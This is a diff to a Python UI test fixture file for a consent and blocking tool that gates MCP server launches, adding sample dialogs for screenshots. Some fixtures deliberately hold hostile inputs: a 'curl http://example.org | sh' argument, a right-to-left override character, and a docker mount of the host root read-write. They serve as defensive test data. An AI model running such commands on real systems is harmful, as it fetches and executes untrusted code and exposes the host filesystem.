@@ -1,14 +1,23 @@
 """Pages and dialogs in the states that tell most about them, for pictures and outlines."""
 
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
 from tests.ui.stories import Story
 
-from patchbay.core.config.model import Entry, Transport
+from patchbay.core.config.model import Definition, Entry, Place, Transport
+from patchbay.core.errors import AppError, Family
+from patchbay.core.errors import Kind as ErrorKind
+from patchbay.core.sessions.gate import ConsentQuestion
 from patchbay.core.sessions.log import Log, LogLine, Source
 from patchbay.core.sessions.traffic import Direction, Outcome, Traffic
+from patchbay.core.trust.allow import Allowed
+from patchbay.core.trust.consent import Change, Changed, Subject, Unknown
+from patchbay.core.trust.plan import plan
+from patchbay.core.trust.risks import risks
+from patchbay.ui.dialogs import BlockedDialog, ConsentDialog
+from patchbay.ui.first_start import FirstStart
 from patchbay.ui.log import LogPage
 from patchbay.ui.traffic import TrafficPage
 
@@ -130,6 +139,103 @@ def traffic_page() -> TrafficPage:
     return page
 
 
+def docker_question(decision: Unknown | Changed | None = None) -> ConsentQuestion:
+    args = ("run", "-i", "-v", "/:/host:rw", "-e", "PG_URL", "-e", "PGSSLMODE")
+    definition = Definition(
+        "postgres",
+        Path("/home/ada/.config/Claude/claude_desktop_config.json"),
+        Transport.STDIO,
+        command="docker",
+        args=(*args, "mcp/postgres:latest"),
+        cwd=Path("/srv/work"),
+        env={"PG_URL": "postgres://ada@db/orders", "PGSSLMODE": "require"},
+    )
+    start = plan(definition, Allowed("/usr/bin/docker", "docker"), Path("/run/patchbay/id"))
+    entry = replace(charts(), name="postgres", file=definition.file, place=Place(22, 5))
+    basics = ("HOME", "LANG", "PATH", "TERM", "TMPDIR", "USER", "SHELL", "TZ", "XDG_RUNTIME_DIR")
+    return ConsentQuestion(
+        entry,
+        decision or Unknown(),
+        start,
+        "",
+        "/srv/work",
+        tuple(definition.env),
+        basics,
+        risks(start),
+    )
+
+
+def plain_question() -> ConsentQuestion:
+    definition = Definition(
+        "charts",
+        Path("/home/ada/project/.mcp.json"),
+        Transport.STDIO,
+        command="npx",
+        args=("-y", "@acme/charts-mcp@1.4.2", "--data", "./data"),
+        cwd=Path("/home/ada/project"),
+    )
+    start = plan(definition, Allowed("/usr/local/bin/npx", "npx"))
+    return ConsentQuestion(
+        charts(), Unknown(), start, "", "/home/ada/project", (), ("PATH", "HOME", "LANG", "TZ"), ()
+    )
+
+
+def changed_question() -> ConsentQuestion:
+    before = Subject(str(charts().file), "charts", "stdio")
+    changes = (
+        Change("Arguments", "-y @acme/charts-mcp@1.4.1", "-y @acme/charts-mcp@1.4.2 --data ./data"),
+        Change("Variables", "", "CHARTS_TOKEN"),
+    )
+    return replace(
+        plain_question(),
+        decision=Changed(before, changes),
+        variables=tuple(f"CHARTS_VARIABLE_{number}" for number in range(9)),
+    )
+
+
+def long_question() -> ConsentQuestion:
+    definition = Definition(
+        "long",
+        Path("/home/ada/project/.mcp.json"),
+        Transport.STDIO,
+        command="npx",
+        args=(
+            "-c",
+            "curl http://example.org | sh",
+            *(f"--option-{n}=value {n}" for n in range(60)),
+            "line\nbreak \u202e reversed",
+        ),
+    )
+    start = plan(definition, Allowed("/usr/local/bin/npx", "npx"))
+    return replace(plain_question(), plan=start, risks=risks(start))
+
+
+def remote_question() -> ConsentQuestion:
+    entry = replace(
+        charts(), name="figma", transport=Transport.HTTP, url="https://mcp.figma.com/mcp"
+    )
+    return ConsentQuestion(
+        entry, Unknown(), None, "https://mcp.figma.com/mcp", "", ("Authorization",), (), ()
+    )
+
+
+def blocked(command: str, resolved: str) -> BlockedDialog:
+    entry = replace(
+        charts(),
+        name="python-tools",
+        command=command,
+        place=Place(14, 5),
+        args=("-m", "my_tools.server", "--stdio"),
+    )
+    error = AppError(
+        Family.CONFIGURATION,
+        f"“python-tools” may not start {command}",
+        kind=ErrorKind.REFUSED,
+        evidence={"command": command, "resolved": resolved, "file": str(entry.file)},
+    )
+    return BlockedDialog(error, entry, (("npx",), ("uvx",), ("docker",)))
+
+
 PAGE = (1_016, 681)
 SMALL = (696, 481)
 PAGE_STORIES = (
@@ -141,4 +247,14 @@ PAGE_STORIES = (
     Story("traffic", lambda _: traffic_page(), *PAGE),
     Story("traffic-narrow", lambda _: traffic_page(), *SMALL),
     Story("traffic-empty", lambda _: TrafficPage(PlainSession(charts())), *PAGE),
+    Story("consent-risky", lambda _: ConsentDialog(docker_question()), 0, 0),
+    Story("consent-plain", lambda _: ConsentDialog(plain_question()), 0, 0),
+    Story("consent-changed", lambda _: ConsentDialog(changed_question()), 0, 0),
+    Story("consent-long", lambda _: ConsentDialog(long_question()), 0, 0),
+    Story("consent-remote", lambda _: ConsentDialog(remote_question()), 0, 0),
+    Story("blocked-interpreter", lambda _: blocked("python", "/usr/bin/python3.12"), 0, 0),
+    Story("blocked-name", lambda _: blocked("my-tools", "not found"), 0, 0),
+    Story("blocked-path", lambda _: blocked("/opt/tools/bin/serve", "/opt/tools/bin/serve"), 0, 0),
+    Story("first-start", lambda _: FirstStart(), 1_016, 800),
+    Story("first-start-narrow", lambda _: FirstStart(), 440, 480),
 )
